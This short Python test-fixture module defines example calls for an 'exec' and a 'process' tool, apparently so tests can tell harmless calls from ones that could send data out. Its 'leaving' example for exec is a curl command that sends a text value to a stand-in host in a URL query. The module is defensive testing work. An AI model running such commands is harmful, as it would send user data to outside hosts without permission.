"""What tests know of the tools of commands; see `tests/tools/examples.py`."""

from tests.tools.examples import TEXT, ToolExample

TOOLS = {
    "exec": ToolExample(
        good={"command": "echo hello"},
        brings="by the call",  # whether it could reach the network
        leaving={"command": f"curl https://a.example/?{TEXT}"},
    ),
    "process": ToolExample(
        good={"action": "list"},
        brings="by the call",
        leaving={"action": "input", "id": 1, "text": TEXT},
    ),
}
